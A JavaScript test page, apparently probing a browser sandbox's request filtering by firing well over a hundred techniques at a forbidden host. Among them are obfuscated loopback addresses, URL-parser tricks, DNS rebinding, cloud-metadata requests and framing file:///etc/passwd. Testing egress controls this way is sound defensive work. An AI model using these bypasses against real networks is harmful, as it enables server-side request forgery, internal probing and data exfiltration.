// What is known to go around a browser's request handling, each named. H is a
// forbidden host:port, P its port, N a forbidden name; U and R make addresses on
// H, and S addresses on the page's own server that turn to H or speak of it.
const H = "HOST", P = H.split(":")[1], N = "leak.example";
const U = (name) => "http://" + H + "/" + name, S = (path) => location.origin + path;
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const hit = (name) => "fetch('" + U(name) + "',{mode:'no-cors'})";
const image = (url) => { new Image().src = url; };
const frame = (src, more) => add("iframe", { src, ...more });
const style = (css) => { const e = document.createElement("style"); e.textContent = css; document.head.append(e); };
const html = (text) => document.body.insertAdjacentHTML("beforeend", text);
const odd = (host) => (name) => image("http://" + host + ":" + P + "/" + name);
const tries = {
  // requests by script
  fetch: (n) => fetch(U(n), { mode: "no-cors" }),
  keepalive: (n) => fetch(U(n), { mode: "no-cors", keepalive: true }),
  later: (n) => fetchLater(S("/turn?" + n), { activateAfter: 0 }),
  post: (n) => fetch(U(n), { mode: "no-cors", method: "POST", body: "x" }),
  cors: (n) => fetch(U(n), { headers: { "X-Own": "1" } }),
  xhr: (n) => { const x = new XMLHttpRequest(); x.open("GET", U(n)); x.send(); },
  beacon: (n) => navigator.sendBeacon(U(n), "x"),
  events: (n) => new EventSource(U(n)),
  socket: (n) => new WebSocket("ws://" + H + "/" + n),
  wss: (n) => new WebSocket("wss://" + H + "/" + n),
  socketstream: (n) => new WebSocketStream("ws://" + H + "/" + n),
  transport: (n) => new WebTransport("https://" + H + "/" + n),
  tcpsocket: () => new TCPSocket("127.0.0.1", +P),
  udpsocket: () => new UDPSocket({ remoteAddress: "127.0.0.1", remotePort: +P }),
  module: (n) => import(U(n)),
  json: (n) => import(U(n), { with: { type: "json" } }),
  wasm: (n) => WebAssembly.compileStreaming(fetch(U(n), { mode: "no-cors" })),
  // spellings of an address
  octal: odd("0177.0.0.1"), hex: odd("0x7f.1"), hexlong: odd("0x7f000001"), short: odd("127.1"), decimal: odd("2130706433"),
  octallong: odd("017700000001"), zero: odd("0"), zeros: odd("0.0.0.0"), loopback2: odd("127.9.9.9"), dot: odd("127.0.0.1."),
  wide: odd("127。0。0。1"), circled: odd("①②⑦.⓪.⓪.①"), escaped: odd("%31%32%37.0.0.1"),
  mapped: odd("[::ffff:127.0.0.1]"), mappedhex: odd("[::ffff:7f00:1]"), compatible: odd("[::127.0.0.1]"), six: odd("[::1]"),
  nat64: odd("[64:ff9b::7f00:1]"), sixtofour: odd("[2002:7f00:1::]"), private6: odd("[fd00::1]"), link6: odd("[fe80::1]"),
  localhost: odd("localhost"), localhostdot: odd("localhost."), sublocalhost: odd("a.localhost"), upper: odd("LOCALHOST"),
  userinfo: (n) => image("http://" + location.host + "@" + H + "/" + n),
  password: (n) => image("http://user:pass@" + H + "/" + n),
  fragment: (n) => image("http://" + H + "#@" + location.host + "/" + n),
  backslash: (n) => image("http:\\\\" + H + "\\" + n),
  slashes: (n) => image("http:////" + H + "/" + n),
  tab: (n) => image("ht\ttp://" + H.replace(".", ".\n") + "/" + n),
  metadata: (n) => fetch("http://169.254.169.254/" + n, { mode: "no-cors" }),
  metadatanumber: (n) => image("http://2852039166/" + n),
  metadataname: (n) => image("http://metadata.google.internal/" + n),
  private: (n) => image("http://10.0.0.1/" + n), router: (n) => image("http://192.168.1.1/" + n),
  public: (n) => image("http://93.184.216.34/" + n), https: (n) => image("https://" + H + "/" + n),
  port: (n) => image("http://" + location.hostname + ":" + P + "/" + n),
  // names: an allowed one that is private, several at once, changing, and forbidden ones
  name: (n) => image("http://" + N + "/" + n), subname: (n) => image("http://secret." + N + "/" + n),
  privatename: (n) => image("http://private.wild.test/" + n), mixedname: (n) => image("http://mixed.wild.test/" + n),
  mappedname: (n) => image("http://mapped.wild.test/" + n), sixname: (n) => image("http://six.wild.test/" + n),
  namedot: (n) => image("http://private.wild.test./" + n), nameport: (n) => image("http://private.wild.test:" + P + "/" + n),
  aliasname: (n) => image("http://alias.wild.test/" + n),
  rebind: async (n) => { for (let i = 0; i < 4; i++) await fetch("http://rebind.wild.test/" + n + i, { mode: "no-cors" }).catch(() => 0); },
  // redirects
  redirect: (n) => image("/turn?" + n), redirect307: (n) => fetch("/turn307?" + n, { mode: "no-cors", method: "POST", body: "x" }),
  redirectscheme: () => image("/turnfile"), redirectsocket: (n) => new WebSocket("ws://" + location.host + "/turn?" + n),
  refreshheader: (n) => frame("/refresh?" + n), refreshmeta: (n) => frame("", { srcdoc: "<meta http-equiv=refresh content='0;url=" + U(n) + "'>" }),
  altsvc: () => fetch("/altsvc"), early: (n) => frame("/early?" + n),
  // elements
  image: (n) => image(U(n)), srcset: (n) => html("<img srcset='" + U(n) + " 2x'>"), picture: (n) => html("<picture><source srcset='" + U(n) + "'><img></picture>"),
  inputimage: (n) => html("<input type=image src='" + U(n) + "'>"), background: (n) => html("<table background='" + U(n) + "'><td>x</table>"),
  script: (n) => add("script", { src: U(n) }), iframe: (n) => frame(U(n)), object: (n) => add("object", { data: U(n) }),
  embed: (n) => add("embed", { src: U(n) }), video: (n) => add("video", { src: U(n), autoplay: true, muted: true }),
  audio: (n) => add("audio", { src: U(n), preload: "auto" }), poster: (n) => add("video", { poster: U(n) }),
  track: (n) => add("video", { src: "/x" }).append(Object.assign(document.createElement("track"), { src: U(n), default: true, kind: "subtitles" })),
  playlist: (n) => add("video", { src: blob("#EXTM3U\n#EXTINF:1,\n" + U(n), "application/vnd.apple.mpegurl"), autoplay: true }),
  svg: (n) => html("<svg><image href='" + U(n) + "'/></svg>"), svguse: (n) => html("<svg><use href='" + U(n) + "#x'/></svg>"),
  svgfilter: (n) => html("<svg><filter id=f><feImage href='" + U(n) + "'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>"),
  svgscript: (n) => frame(blob("<svg xmlns='http://www.w3.org/2000/svg'><script href='" + U(n) + "'/></svg>", "image/svg+xml")),
  xslt: (n) => frame(blob("<?xml-stylesheet type='text/xsl' href='" + U(n) + "'?><a/>", "text/xml")),
  entity: (n) => frame(blob("<!DOCTYPE a [<!ENTITY e SYSTEM '" + U(n) + "'>]><a>&e;</a>", "text/xml")),
  ping: (n) => add("a", { href: "#x", ping: U(n) }).click(), attribution: (n) => add("img", { attributionsrc: U(n) }),
  form: (n) => { frame("about:blank", { name: "f1" }); add("form", { action: U(n), method: "post", target: "f1" }).submit(); },
  formplain: (n) => { frame("about:blank", { name: "f2" }); add("form", { action: U(n), enctype: "text/plain", method: "post", target: "f2" }).submit(); },
  download: (n) => { frame("about:blank", { name: "f3" }); add("a", { href: U(n), download: "x", target: "f3" }).click(); },
  fenced: (n) => add("fencedframe", { src: U(n) }),
  pdf: () => frame("/actions.pdf"), pdfembed: () => add("embed", { src: "/actions.pdf", type: "application/pdf" }),
  // styles and fonts
  css: (n) => add("link", { rel: "stylesheet", href: U(n) }), cssimport: (n) => style("@import '" + U(n) + "';"),
  cssurl: (n) => { document.body.style.background = "url(" + U(n) + ")"; },
  csscontent: (n) => style("body::after { content: url(" + U(n) + ") }"), csslist: (n) => { style("li { list-style-image: url(" + U(n) + ") }"); html("<ul><li>x</ul>"); },
  cssmask: (n) => { add("p", { style: "mask-image: url(" + U(n) + "); width: 9px; height: 9px" }); },
  cssset: (n) => add("p", { style: "background: image-set('" + U(n) + "' 1x)" }), csscursor: (n) => style("body { cursor: url(" + U(n) + "), auto }"),
  font: (n) => new FontFace("f", "url(" + U(n) + ")").load(),
  fontface: (n) => { style("@font-face { font-family: g; src: url(" + U(n) + ") }"); add("p", { style: "font-family: g" }).textContent = "x"; },
  // hints
  prefetch: (n) => add("link", { rel: "prefetch", href: U(n) }), preload: (n) => add("link", { rel: "preload", as: "image", href: U(n) }),
  modulepreload: (n) => add("link", { rel: "modulepreload", href: U(n) }), prerender: (n) => add("link", { rel: "prerender", href: U(n) }),
  preconnect: () => add("link", { rel: "preconnect", href: U("") }), preconnectname: () => add("link", { rel: "preconnect", href: "https://pre." + N }),
  dns: () => add("link", { rel: "dns-prefetch", href: "//dns." + N }), dictionary: (n) => add("link", { rel: "compression-dictionary", href: U(n) }),
  icon: (n) => add("link", { rel: "icon", href: U(n) }), touchicon: (n) => add("link", { rel: "apple-touch-icon", href: U(n) }),
  manifest: (n) => add("link", { rel: "manifest", href: U(n) }), manifesticon: () => add("link", { rel: "manifest", href: "/manifest" }),
  opensearch: (n) => add("link", { rel: "search", type: "application/opensearchdescription+xml", href: U(n) }),
  speculation: (n) => rules({ prefetch: [{ urls: [U(n)], eagerness: "immediate" }] }),
  prerendering: (n) => rules({ prerender: [{ urls: [U(n)], eagerness: "immediate" }] }),
  specdocument: (n) => { add("a", { href: U(n) }).textContent = "x"; rules({ prefetch: [{ where: { href_matches: "/*" }, eagerness: "immediate" }] }); },
  specheader: () => frame("/speculation"),
  // reports
  csp: () => frame("/csp"), reports: () => frame("/reports"), nel: () => fetch("/nel"),
  // windows
  popup: (n) => open(U(n)), noopener: (n) => open(U(n), "_blank", "noopener"), scripted: (n) => { const w = open(""); w.location = U(n); },
  history: (n) => { frame("about:blank").contentWindow.location = U(n); }, jsframe: (n) => frame("javascript:" + hit(n)),
  data: (n) => frame("data:text/html,<img src='" + U(n) + "'>"), blobframe: (n) => frame(blob("<img src='" + U(n) + "'>", "text/html")),
  // workers
  worker: (n) => new Worker(blob(hit(n) + ";new WebSocket('ws://" + H + "')", "text/javascript")),
  workerimport: (n) => new Worker(blob("importScripts('" + U(n) + "')", "text/javascript")),
  shared: (n) => new SharedWorker("data:text/javascript," + hit(n)), service: () => navigator.serviceWorker.register("/sw.js"),
  paint: (n) => CSS.paintWorklet.addModule(U(n)), audioworklet: (n) => new AudioContext().audioWorklet.addModule(U(n)),
  // real-time connections
  stun: () => rtc("stun:" + H), stunname: () => rtc("stun:stun." + N), turn: () => rtc("turn:" + H + "?transport=udp"),
  turntcp: () => rtc("turn:" + H + "?transport=tcp"), turns: () => rtc("turns:" + H + "?transport=tcp"),
  candidate: () => candidate("udp"), candidatetcp: () => candidate("tcp"),
  // services of the browser
  push: async () => (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: new Uint8Array(65).fill(4) }),
  background: async (n) => (await navigator.serviceWorker.ready).backgroundFetch.fetch("x", [U(n)]),
  payment: (n) => new PaymentRequest([{ supportedMethods: "https://" + H + "/" + n }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
  federated: (n) => navigator.credentials.get({ identity: { providers: [{ configURL: "https://" + H + "/" + n, clientId: "x" }] } }),
  passkey: () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: N } }),
  presentation: (n) => new PresentationRequest([U(n), "cast:00000000"]).getAvailability(),
  auction: (n) => navigator.joinAdInterestGroup({ owner: "https://" + H, name: n, biddingLogicURL: "https://" + H + "/" + n }, 1000),
  geolocation: () => navigator.geolocation.getCurrentPosition(() => 0), related: () => navigator.getInstalledRelatedApps(),
  speech: () => new webkitSpeechRecognition().start(), translate: () => Translator.create({ sourceLanguage: "de", targetLanguage: "en" }),
  // schemes
  file: () => frame("file:///etc/passwd"), fileopen: () => open("file:///etc/passwd"), viewsource: (n) => open("view-source:" + U(n)),
  chrome: () => open("chrome://net-export"), devtools: () => open("devtools://devtools/bundled/inspector.html?ws=" + H),
  extension: () => frame("chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html?" + U("x")), ftp: (n) => frame("ftp://" + H + "/" + n),
  intent: (n) => frame("intent://" + H + "/" + n + "#Intent;scheme=http;end"), mailto: () => frame("mailto:x@" + N), custom: () => frame("ms-word:ofe|u|" + U("x")),
};
function add(tag, attributes) {
  const e = document.createElement(tag);
  for (const k in attributes) e.setAttribute(k, attributes[k] === true ? "" : attributes[k]);
  document.body.append(e);
  return e;
}
function rules(value) {
  const s = document.createElement("script");
  s.type = "speculationrules";
  s.textContent = JSON.stringify(value);
  document.head.append(s);
}
function rtc(url) {
  const p = new RTCPeerConnection({ iceServers: [{ urls: url, username: "u", credential: "c" }] });
  p.createDataChannel("d");
  p.createOffer().then((o) => p.setLocalDescription(o));
}
// candidate answers an own offer by hand, so that the checks of a connection go to H.
async function candidate(kind) {
  const p = new RTCPeerConnection(), q = new RTCPeerConnection();
  p.createDataChannel("d");
  await p.setLocalDescription(await p.createOffer());
  await q.setRemoteDescription(p.localDescription);
  await q.setLocalDescription(await q.createAnswer());
  await p.setRemoteDescription(q.localDescription);
  const tail = kind === "tcp" ? " typ host tcptype passive" : " typ host";
  await p.addIceCandidate({ candidate: "candidate:1 1 " + kind + " 2122260223 127.0.0.1 " + P + tail, sdpMid: "0", sdpMLineIndex: 0 });
}
const shown = document.createElement("p"), done = [];
document.body.prepend(shown);
for (const name in tries) {
  shown.textContent = "tried " + done.length + ", then " + name;
  try { Promise.resolve(tries[name](name)).catch(() => {}); done.push(name); } catch (e) { done.push(name + "!"); }
}
shown.textContent = "tried all " + done.length + ": " + done.join(" ");
